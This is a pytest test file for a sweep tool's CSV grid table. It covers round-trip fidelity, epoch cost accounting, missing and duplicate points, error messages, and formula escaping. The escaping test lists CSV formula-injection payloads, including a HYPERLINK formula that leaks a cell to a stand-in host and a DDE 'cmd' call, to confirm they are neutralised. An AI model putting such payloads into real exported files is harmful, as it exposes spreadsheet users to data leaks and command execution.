"""freezesweep.replay.table: the grid table's CSV round trip, costs, coverage and refusals."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import pytest

from freezesweep.errors import ConfigError
from freezesweep.replay.table import GridTable, read_table, write_table
from freezesweep.study.csv_cells import FORMULA_STARTS
from tests.helpers.grids import PROVENANCE, synthetic_table


def test_a_table_reads_back_exactly_as_written(tmp_path: Path) -> None:
    table = synthetic_table()
    back = read_table(write_table(table, tmp_path / "grid.csv"))
    assert back.points == table.points  # every float bit-identical, ints stay ints
    assert back.provenance == PROVENANCE
    assert back.keys == ["finetune.top_k", "finetune.lr"]
    assert back.values("finetune.lr") == [1e-4, 3e-4, 1e-3]


def test_cost_charges_whole_stages_and_the_running_stage_by_epochs() -> None:
    point = synthetic_table().point({"finetune.top_k": 1, "finetune.lr": 3e-4})
    assert point is not None and point.stage_seconds == (2.0, 3.0)
    assert point.seconds_until(1) == 1.0
    assert point.seconds_until(2) == 2.0
    assert point.seconds_until(3) == 3.0  # one of the three fine-tuning epochs
    assert point.seconds_until(5) == point.seconds == 5.0


def test_best_and_missing_points() -> None:
    table = synthetic_table()
    assert table.best.params == {"finetune.top_k": 4, "finetune.lr": 3e-4}
    assert table.missing() == []
    gone = table.points.pop(4)
    assert GridTable(table.points).missing() == [gone.params]


def test_a_point_recorded_twice_answers_each_visit_in_order() -> None:
    table = synthetic_table()
    first = table.points[0]
    again = replace(first, value=0.1, trial=99)
    twice = GridTable([*table.points, again])
    assert twice.point(first.params, 0) == first
    assert twice.point(first.params, 1) == again
    assert twice.point(first.params, 5) == again
    assert twice.point({"finetune.top_k": 9, "finetune.lr": 3e-4}) is None


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "{path}: no such grid table."),
        ("", "{path}: the grid table has no rows."),
        ("param.x,state\n1,COMPLETE\n", "{path}: not a grid table (no column value,"),
    ],
)
def test_unreadable_tables_are_one_line_naming_the_file(
    tmp_path: Path, content: str | None, message: str
) -> None:
    path = tmp_path / "grid.csv"
    if content is not None:
        path.write_text(content)
    with pytest.raises(ConfigError) as error:
        read_table(path)
    assert str(error.value).startswith(message.format(path=path))
    assert "\n" not in str(error.value)


def test_a_row_without_a_curve_is_refused_with_its_line(tmp_path: Path) -> None:
    path = write_table(synthetic_table(), tmp_path / "grid.csv")
    lines = path.read_text().splitlines()
    cells = lines[2].split(",")
    cells[5] = ""  # the curve column of the second point
    lines[2] = ",".join(cells)
    path.write_text("\n".join(lines) + "\n")
    with pytest.raises(
        ConfigError, match=r"^.*grid\.csv, line 3: no per-epoch val_accuracy curve\.$"
    ):
        read_table(path)


# Text a spreadsheet runs as a formula, in a parameter's choices and the provenance (a sweep
# file's choice, a study or machine name), and text that already starts with the escape quote.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "'quoted",
    "''=twice",
]


def test_formula_text_is_escaped_in_the_file_and_reads_back_exactly(tmp_path: Path) -> None:
    points = [
        replace(point, params={**point.params, "finetune.method": FORMULAS[n % len(FORMULAS)]})
        for n, point in enumerate(synthetic_table().points)
    ]
    provenance = {**PROVENANCE, "study": "=1+2", "machine": "@host"}
    table = GridTable(points, provenance)
    path = write_table(table, tmp_path / "grid.csv")
    with path.open(newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    # No cell a spreadsheet would evaluate: formula text starts with the escape quote; numbers
    # (negative ones included) stay numbers.
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or _number(cell), cell
    assert "'=1+2" in cells and "'@host" in cells and "''quoted" in cells
    # Read back, every value is what was written: the text unescaped, the numbers numbers.
    back = read_table(path)
    assert back.points == table.points
    assert back.provenance == provenance
    assert back.values("finetune.method") == sorted(set(FORMULAS))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
